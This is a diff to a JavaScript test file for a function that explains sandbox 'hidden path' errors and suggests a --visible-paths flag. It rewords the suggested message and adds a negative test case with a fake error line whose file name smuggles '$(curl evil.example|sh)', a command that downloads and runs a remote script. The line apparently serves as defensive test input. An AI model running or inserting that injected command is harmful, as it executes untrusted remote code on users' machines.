@@ -14,7 +14,7 @@ describe('a path that the sandbox hides', () => {
     'working in /home/a/other\n/usr/bin/env: ‘node’: ok\ncat: /home/a/agent.sh: No such file or directory\n',
   ])('is named with the flag that shows it: %s', (output) => {
     expect(explain(output)).toBe(
-      'The sandbox hides /home/a/agent.sh from the agent: let it read what is there with --visible-paths /home/a/agent.sh.',
+      'The sandbox hides /home/a/agent.sh from the agent: if it may read what is there, allow that with --visible-paths /home/a/agent.sh.',
     );
   });
 
@@ -27,6 +27,7 @@ describe('a path that the sandbox hides', () => {
   test.each([
     'bash: line 1: /usr/lib/tool: No such file or directory',
     'read /home/a/agent.sh',
+    'cat: /home/a/x$(curl evil.example|sh): No such file or directory',
     'bash: tool: command not found',
     '',
   ])('is not seen in other output: %s', (output) => {
